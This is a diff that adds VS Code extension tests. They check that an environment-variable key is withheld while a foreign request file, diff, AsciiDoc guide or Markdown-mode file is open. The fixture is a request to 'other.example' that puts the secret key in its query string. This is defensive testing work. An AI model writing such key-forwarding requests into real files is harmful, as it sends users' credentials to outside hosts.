@@ -68,6 +68,53 @@ describe('references in request files', function () {
 		await files.waitForExposedKey(undefined);
 	});
 
+	describe('while a request that is visible elsewhere would send the key to another host', () => {
+		const foreignText = () => `GET https://other.example/?key={{$processEnv ${getVariableName(files.tokenId)}}}\n`;
+		let outside: string;
+
+		before(async () => (outside = await mkdtemp(join(tmpdir(), 'connect-tokens-outside-'))));
+		after(() => rm(outside, { recursive: true, force: true }));
+
+		async function assertWithheldWhile(show: () => Thenable<unknown>): Promise<void> {
+			await files.open('own.http', files.requestText());
+			await files.waitForExposedKey(await files.readKey());
+			await show();
+			await files.waitForExposedKey(undefined);
+			await vscode.commands.executeCommand('workbench.action.closeActiveEditor');
+			await files.waitForExposedKey(await files.readKey());
+		}
+
+		it('expose no key next to a file outside of the workspace', async () => {
+			const path = join(outside, 'foreign.http');
+			await writeFile(path, foreignText());
+			await assertWithheldWhile(() => vscode.window.showTextDocument(vscode.Uri.file(path), { viewColumn: vscode.ViewColumn.Two }));
+		});
+
+		it('expose no key next to a diff', async () => {
+			const [before, after] = [join(outside, 'before.http'), join(files.folder, 'after.http')];
+			await writeFile(before, '');
+			await writeFile(after, foreignText());
+			await assertWithheldWhile(() =>
+				vscode.commands.executeCommand('vscode.diff', vscode.Uri.file(before), vscode.Uri.file(after), 'Diff', {
+					viewColumn: vscode.ViewColumn.Two,
+				}),
+			);
+		});
+
+		it('expose no key next to a document in another language that has requests', async () => {
+			const path = join(files.folder, 'guide.adoc');
+			await writeFile(path, `[source,http]\n----\n${foreignText()}----\n`);
+			await assertWithheldWhile(() => vscode.window.showTextDocument(vscode.Uri.file(path), { viewColumn: vscode.ViewColumn.Two }));
+		});
+
+		it('expose no key to a request file that clients could read as Markdown', async () => {
+			const markdown = `${files.requestText()}\n\`\`\`http\n${foreignText().replace('GET ', '')}\`\`\`\n`;
+			const { document } = await files.open('markdown.http', markdown);
+			await vscode.languages.setTextDocumentLanguage(document, 'markdown');
+			await files.assertNotExposed();
+		});
+	});
+
 	it('expose the new key after a rotation, and no key after the token is disabled or deleted', async () => {
 		await files.open('life.http', files.requestText());
 		const before = await files.readKey();
